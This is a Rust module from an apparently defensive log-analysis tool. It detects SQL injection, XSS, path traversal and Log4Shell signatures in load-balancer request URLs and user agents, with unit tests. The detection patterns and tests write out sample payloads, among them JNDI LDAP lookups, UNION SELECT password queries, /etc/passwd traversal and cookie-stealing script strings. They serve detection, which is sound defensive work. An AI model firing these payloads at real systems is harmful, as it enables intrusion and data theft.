//! attack-signature: SQL injection, cross-site scripting, path traversal and Log4Shell
//! patterns in the URL or the user agent, matched after undoing ALB's `\xHH` escapes and up
//! to two rounds of percent-encoding.
//!
//! Severity: Log4Shell and SQL injection high, traversal and XSS medium; one level lower when
//! no matching request reached a target (the ALB answered itself: fixed response, WAF block).

use std::sync::OnceLock;

use regex::RegexSet;

use super::{Ctx, Req, Rule, RuleOutput, Severity};
use crate::format::alb::parse::decode_escapes;

#[derive(
    Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, serde::Serialize, serde::Deserialize,
)]
pub enum Kind {
    Log4Shell,
    SqlInjection,
    PathTraversal,
    Xss,
}

impl Kind {
    const ALL: [Kind; 4] = [
        Kind::Log4Shell,
        Kind::SqlInjection,
        Kind::PathTraversal,
        Kind::Xss,
    ];

    fn name(self) -> &'static str {
        match self {
            Kind::Log4Shell => "Log4Shell",
            Kind::SqlInjection => "SQL injection",
            Kind::PathTraversal => "path traversal",
            Kind::Xss => "XSS",
        }
    }

    fn severity(self) -> Severity {
        match self {
            Kind::Log4Shell | Kind::SqlInjection => Severity::High,
            Kind::PathTraversal | Kind::Xss => Severity::Medium,
        }
    }
}

/// One pattern per `Kind`, in `Kind::ALL` order.
const PATTERNS: [&str; 4] = [
    // ${jndi:…}, and the usual obfuscations: ${${lower:j}ndi:…}, ${${::-j}ndi:…}, ${env:…}
    r"(?i)\$\{\s*(jndi\s*:|\$\{|(lower|upper|env|sys|date|java|base64|main|ctx|sd|web|docker|k8s|spring)\s*:|::-)",
    // UNION SELECT, tautologies, stacked queries, time-based probes, comments closing a quote
    r#"(?i)(\bunion\b[\s+/*()]+(all[\s+/*()]+)?select\b|'\s*(or|and)\s+'?\w*'?\s*(=|like)\s*'?\w*|'\s*(or|and)\s+\d+\s*=\s*\d+|;\s*(drop|delete|insert|update|shutdown|exec)\s|\b(sleep|pg_sleep)\s*\(\s*\d|\bbenchmark\s*\(|\bwaitfor\s+delay\b|\binformation_schema\b|'\s*(--|#|/\*)|\bselect\b.+\bfrom\b.+\bwhere\b.*=)"#,
    // ../ or ..\ in any spelling that survived decoding, and the files traversal goes for
    r"(?i)(\.\.[/\\]|[/\\]\.\.$|/etc/(passwd|shadow|hosts)\b|\bwin\.ini\b|\bboot\.ini\b|c:\\windows)",
    // script tags, event handlers, javascript: URLs
    r"(?i)(<\s*/?\s*script\b|\bjavascript\s*:|\bon(error|load|mouseover|focus|click|animationstart)\s*=|<\s*(svg|img|iframe|body)\b[^>]*\bon\w+\s*=|\bdocument\.cookie\b|\balert\s*\()",
];

fn set() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| RegexSet::new(PATTERNS).expect("valid patterns"))
}

fn unhex(c: u8) -> Option<u8> {
    (c as char).to_digit(16).map(|d| d as u8)
}

/// Undoes one round of percent-encoding (`+` stays `+`: it is only a space in a form body).
pub fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%' && i + 2 < b.len() {
            if let (Some(h), Some(l)) = (unhex(b[i + 1]), unhex(b[i + 2])) {
                out.push(h * 16 + l);
                i += 3;
                continue;
            }
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// The text as an attacker meant it: ALB escapes undone, then percent-decoded twice.
pub fn decoded(s: &str) -> String {
    let once = percent_decode(&decode_escapes(s));
    if once.contains('%') {
        percent_decode(&once)
    } else {
        once
    }
}

/// The signatures in a text.
pub fn kinds_in(text: &str) -> Vec<Kind> {
    // a text with no escape and no percent-encoding is its own decoding (most of them)
    let d: std::borrow::Cow<'_, str> = match text.bytes().any(|b| b == b'%' || b == b'\\') {
        true => decoded(text).into(),
        false => text.into(),
    };
    let set = set();
    let mut hits: Vec<Kind> = set.matches(&d).into_iter().map(|i| Kind::ALL[i]).collect();
    // a literal '+' used as a space in a query: try it as spaces too
    if d.contains('+') {
        for i in set.matches(&d.replace('+', " ")).into_iter() {
            if !hits.contains(&Kind::ALL[i]) {
                hits.push(Kind::ALL[i]);
            }
        }
    }
    hits.sort_unstable();
    hits
}

/// Where a signature was found: "url" or "user agent".
pub type Place = &'static str;

/// Every place a signature is looked for.
pub const PLACES: [Place; 2] = ["url", "user agent"];

/// Signatures in a request's URL and user agent.
pub fn request_kinds(url: Option<&str>, user_agent: Option<&str>) -> Vec<(Kind, Place)> {
    let mut out = Vec::new();
    if let Some(u) = url {
        out.extend(kinds_in(u).into_iter().map(|k| (k, PLACES[0])));
    }
    if let Some(ua) = user_agent {
        out.extend(ua_kinds(ua).into_iter().map(|k| (k, PLACES[1])));
    }
    out
}

/// User agents seen by this thread and their signatures, at most this many (then forgotten).
const UA_CACHE: usize = 4096;

thread_local! {
    /// A log's user agents are a few hundred, each on thousands of requests: each is decoded
    /// and matched once per thread.
    static UA_KINDS: std::cell::RefCell<
        std::collections::HashMap<Box<str>, Vec<Kind>, rustc_hash::FxBuildHasher>,
    > = std::cell::RefCell::default();
}

/// [`kinds_in`] of a user agent, remembered.
fn ua_kinds(ua: &str) -> Vec<Kind> {
    UA_KINDS.with_borrow_mut(|seen| {
        if let Some(k) = seen.get(ua) {
            return k.clone();
        }
        let k = kinds_in(ua);
        if seen.len() >= UA_CACHE {
            seen.clear();
        }
        seen.insert(ua.into(), k.clone());
        k
    })
}

pub fn run(ctx: &Ctx) -> RuleOutput {
    let mut findings = Vec::new();
    for c in ctx.clients {
        let Some(a) = &c.state.attack else { continue };
        let mut severity = a
            .by_kind
            .keys()
            .map(|k| k.0.severity())
            .max()
            .unwrap_or(Severity::Medium);
        let mut reasons: Vec<String> = a
            .by_kind
            .iter()
            .map(|((k, place), n)| format!("{}: {n} request(s), in the {place}", k.name()))
            .collect();
        if a.reached {
            reasons.push("at least one of them reached a target".into());
        } else {
            severity = severity.down();
            reasons.push("none reached a target (the ALB answered itself)".into());
        }
        // the first request of each kind leads the evidence, worst kind first
        let mut evidence: Vec<&[Req]> = a.first.values().map(|e| e.rows()).collect();
        evidence.push(a.all.earliest.rows());
        findings.push(ctx.finding(
            Rule::AttackSignature,
            severity,
            c,
            &a.all,
            &evidence,
            reasons,
        ));
    }
    RuleOutput::ran(findings)
}

#[cfg(test)]
mod tests {
    use super::super::test_util::*;
    use super::super::*;
    use super::{kinds_in, Kind};

    #[test]
    fn signatures_true_positives() {
        let cases = [
            ("${jndi:ldap://198.51.100.23:1389/Exploit}", Kind::Log4Shell),
            ("${${lower:j}ndi:ldap://x/a}", Kind::Log4Shell),
            ("/x?u=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D", Kind::Log4Shell),
            (
                "/notes?patient_id=1%20UNION%20SELECT%20password%20FROM%20staffs",
                Kind::SqlInjection,
            ),
            ("/notes?patient_id=1'+OR+'1'='1", Kind::SqlInjection),
            ("/login?u=admin'--", Kind::SqlInjection),
            ("/notes?id=1;sleep(5)", Kind::SqlInjection),
            ("/../../etc/passwd", Kind::PathTraversal),
            ("/static/..%2f..%2fetc/hosts", Kind::PathTraversal),
            ("/static/%252e%252e%252fwin.ini", Kind::PathTraversal),
            ("/search?q=<script>alert(1)</script>", Kind::Xss),
            (
                "/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                Kind::Xss,
            ),
            ("/r?next=javascript:alert(document.cookie)", Kind::Xss),
        ];
        for (text, kind) in cases {
            assert!(
                kinds_in(text).contains(&kind),
                "{text}: {:?}",
                kinds_in(text)
            );
        }
    }

    #[test]
    fn signatures_near_misses() {
        for text in [
            "/notes?patient_id=42&q=ear infection",
            "\\x22Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36\\x22",
            "/notes?q=union of the tendon, select diet",
            "/notes?q=${amount} owed",
            "/notes?q=dog's ear",
            "/docs/v1..v2/compare",
            "/notes?q=onboarding=yes",
            "/patients/12/screen",
            "hosp-loadtest/1.0 (k6)",
            "Mozilla/5.0 zgrab/0.x",
        ] {
            assert!(kinds_in(text).is_empty(), "{text}: {:?}", kinds_in(text));
        }
    }

    /// The shortcuts change no answer: a text with no escape and no `%` is its own decoding,
    /// and a user agent's signatures are remembered (past the cache's capacity too).
    #[test]
    fn shortcuts_find_what_the_whole_decoding_finds() {
        use super::{decoded, request_kinds, UA_CACHE};
        for text in [
            "/notes?q=1'+OR+'1'='1",
            "/../../etc/passwd",
            "${jndi:x}",
            "a+b <c>",
        ] {
            assert_eq!(decoded(text), text);
        }
        let ua = "${jndi:ldap://x/a}";
        let url = "/x?u=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fa%7D";
        let both = vec![(Kind::Log4Shell, "url"), (Kind::Log4Shell, "user agent")];
        for i in 0..UA_CACHE + 10 {
            assert_eq!(request_kinds(Some(url), Some(ua)), both, "{i}");
            let other = format!("Mozilla/{i}");
            assert!(request_kinds(None, Some(&other)).is_empty());
        }
        assert_eq!(request_kinds(Some("/x"), Some("Mozilla/1")), vec![]);
    }

    #[test]
    fn log4shell_from_the_alb_alone_is_medium() {
        let s = Settings::default();
        let mut probe = req(
            0,
            "198.51.100.23",
            "${jndi:ldap://198.51.100.23:1389/Exploit}",
            "GET",
            "/api/v1/login",
            404,
        );
        probe.target_status = None;
        let f = run(Rule::AttackSignature, vec![probe.clone()], &s);
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].severity, Severity::Medium);
        assert!(f[0].reasons[0].starts_with("Log4Shell: 1 request(s), in the user agent"));
        // the same request answered by a target: high
        probe.target_status = Some(404);
        assert_eq!(
            run(Rule::AttackSignature, vec![probe], &s)[0].severity,
            Severity::High
        );
        // near miss: an ordinary request
        let ok = req(0, "192.0.2.14", BROWSER, "GET", "/notes?patient_id=3", 200);
        assert!(run(Rule::AttackSignature, vec![ok], &s).is_empty());
    }
}
